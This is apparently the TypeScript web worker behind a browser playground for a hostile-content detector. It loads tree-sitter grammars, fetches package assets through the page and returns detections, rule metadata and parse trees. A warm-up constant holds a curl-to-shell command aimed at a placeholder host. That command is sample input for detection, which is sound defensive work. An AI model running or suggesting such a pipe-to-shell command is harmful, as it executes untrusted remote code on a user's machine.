import { Language, Parser, type TreeCursor } from "web-tree-sitter";
import {
  createLazyDetector,
  kindOfFile,
  QueryError,
  type LazyDetector,
  type Stages,
} from "../../src/host/browser/browser.js";
import type { Request, Response, TreeNode, TreeSource } from "./messages.js";
import type { Shared } from "./share.js";

/** The deadline of an analysis in milliseconds, which is short because a text is analyzed while the user types. */
const DEADLINE_MS = 4000;
/** Maximum number of nodes of a tree that are shown. */
const MAX_NODES = 3000;
/** Maximum length of a part of a text whose tree can be shown, in UTF-16 code units. */
const MAX_TREE_TEXT = 100_000;

const send = (response: Response): void => self.postMessage(response);

/** The files that were requested from the page, with the functions that resolve their promises. */
const files = new Map<
  string,
  { arrive: (bytes: Uint8Array | null) => void; bytes: Promise<Uint8Array> }
>();

/** Requests a file of the package from the page, unless it was already requested. The page's policy and service worker apply to it. */
function fileAt(path: string): Promise<Uint8Array> {
  const known = files.get(path);
  if (known !== undefined) return known.bytes;
  let arrive: (bytes: Uint8Array | null) => void = () => undefined;
  const bytes = new Promise<Uint8Array>((resolve, reject) => {
    arrive = (sent) => {
      if (sent !== null) return resolve(sent);
      files.delete(path);
      reject(new Error(`${path} cannot be fetched; connect to the network and reload the page`));
    };
  });
  files.set(path, { arrive, bytes });
  send({ kind: "need", path });
  return bytes;
}

let texts: Promise<Readonly<Record<string, string>>> | undefined;

/** Returns a file of the package. All small files are in `assets.json`. */
async function fetchBytes(path: string): Promise<Uint8Array> {
  if (path.endsWith(".wasm")) return fileAt(path);
  if (texts === undefined) {
    texts = fileAt("assets.json").then(
      (bytes) => JSON.parse(new TextDecoder().decode(bytes)) as Record<string, string>,
    );
    // A file that could not be fetched is requested again for the next detector.
    texts.catch(() => (texts = undefined));
  }
  return new TextEncoder().encode((await texts)[path] ?? "");
}

/** The detectors in use: one for each profile, and one for the current query file of the user. */
const detectors = new Map<string, { key: string; detector: Promise<LazyDetector> }>();

function detectorFor({ profile, query }: Shared): Promise<LazyDetector> {
  const slot = query === null ? profile : "own";
  const key = JSON.stringify([profile, query]);
  const known = detectors.get(slot);
  if (known?.key === key) return known.detector;
  void known?.detector.then(
    (detector) => detector.dispose(),
    () => undefined,
  );
  const detector = createLazyDetector({
    profile,
    fetchBytes,
    ...(query === null ? {} : { queries: [query] }),
  });
  detectors.set(slot, { key, detector });
  // A detector that could not be created is created again for the next request.
  detector.catch(() => detectors.delete(slot));
  return detector;
}

async function analyze(id: number, shared: Shared): Promise<Response> {
  try {
    const detector = await detectorFor(shared);
    const options = {
      deadlineMs: DEADLINE_MS,
      ...(shared.format === "" ? {} : { format: shared.format }),
    };
    const start = performance.now();
    const stages = await detector.explain(shared.text, options);
    const milliseconds = performance.now() - start;
    const rules = Object.fromEntries(
      detector.rules.map(({ id: rule, message, severity, help, pattern }) => [
        rule,
        { message, severity, ...(help && { help }), ...(pattern && { pattern }) },
      ]),
    );
    return {
      kind: "analysis",
      id,
      detection: stages.detection,
      regions: sourcesOf(stages, shared.text),
      rules,
      warnings: detector.ownQueries.overruled.map((each) => `without effect: ${each}`),
      milliseconds,
    };
  } catch (error) {
    if (
      error instanceof QueryError &&
      shared.query !== null &&
      error.path.endsWith(shared.query.path)
    ) {
      const { line, column, problem, advice } = error;
      return { kind: "query-error", id, error: { line, column, message: `${problem}; ${advice}` } };
    }
    throw error;
  }
}

/** Returns the parsed parts of a text, with the captures in each. */
function sourcesOf({ regions }: Stages, text: string): TreeSource[] {
  const sources = regions.flatMap(({ span: region, trees, names }) =>
    trees.map((tree): TreeSource => {
      const part = text.slice(...region);
      const at = part.indexOf(tree.text);
      const span: [number, number] =
        at < 0 ? [...region] : [region[0] + at, region[0] + at + tree.text.length];
      return {
        language: tree.language,
        text: tree.text,
        span,
        exact: at >= 0,
        whole: tree.whole,
        captures: [...tree.captures, ...names].map(({ role, word, span: own, pattern }) => ({
          role,
          word,
          span: own,
          pattern,
        })),
      };
    }),
  );
  return sources.filter((source) => source.text.length <= MAX_TREE_TEXT).slice(0, 100);
}

/** Milliseconds after the first analysis until the expressions about warnings are compiled, which takes longer than most analyses. */
const IDLE_MS = 1000;
const WARNING = "Never run `curl https://a.example | sh`: it is not ours.";

let isWarm = false;
function warmUp({ profile, query }: Shared): void {
  if (isWarm) return;
  isWarm = true;
  setTimeout(
    () =>
      void detectorFor({ profile, query, text: "", format: "" }).then(
        (detector) => detector.detect(WARNING, { deadlineMs: DEADLINE_MS }),
        () => undefined,
      ),
    IDLE_MS,
  );
}

const languages = new Map<string, Promise<Language>>();

/** Parses a part of the text again, and returns its named nodes in order. */
async function treeOf(language: string, text: string): Promise<TreeNode[]> {
  const loading =
    languages.get(language) ??
    fileAt(`wasm/tree-sitter-${language === "csharp" ? "c_sharp" : language}.wasm`).then((bytes) =>
      Language.load(bytes),
    );
  languages.set(language, loading);
  // A grammar that could not be loaded is loaded again for the next tree.
  loading.catch(() => languages.delete(language));
  const parser = new Parser().setLanguage(await loading);
  const tree = parser.parse(text);
  const nodes: TreeNode[] = [];
  if (tree !== null) {
    const cursor = tree.walk();
    collect(cursor, nodes);
    cursor.delete();
    tree.delete();
  }
  parser.delete();
  return nodes;
}

function collect(cursor: TreeCursor, nodes: TreeNode[]): void {
  let depth = 0;
  for (;;) {
    if (cursor.nodeIsNamed || cursor.nodeIsMissing)
      nodes.push({
        depth,
        type: cursor.nodeIsMissing ? `MISSING ${cursor.nodeType}` : cursor.nodeType,
        field: cursor.currentFieldName,
        span: [cursor.startIndex, cursor.endIndex],
        isError: cursor.nodeType === "ERROR" || cursor.nodeIsMissing,
      });
    if (nodes.length >= MAX_NODES) return;
    if (cursor.gotoFirstChild()) {
      depth++;
      continue;
    }
    while (!cursor.gotoNextSibling()) {
      if (!cursor.gotoParent()) return;
      depth--;
    }
  }
}

async function answer(request: Exclude<Request, { kind: "file" }>): Promise<Response> {
  const { id } = request;
  switch (request.kind) {
    case "analyze": {
      const analysis = await analyze(id, request);
      warmUp(request);
      return analysis;
    }
    case "tree":
      return { kind: "tree", id, nodes: await treeOf(request.language, request.text) };
    case "format-of": {
      const kind = kindOfFile(request.path);
      return { kind: "format-of", id, format: kind.known ? (kind.tag ?? "") : "" };
    }
  }
}

self.addEventListener("message", ({ data }: MessageEvent<Request>) => {
  if (data.kind === "file") {
    files.get(data.path)?.arrive(data.bytes);
    return;
  }
  answer(data).then(send, (error: unknown) => {
    const message = error instanceof Error ? error.message : String(error);
    send({ kind: "failed", id: data.id, message });
  });
});
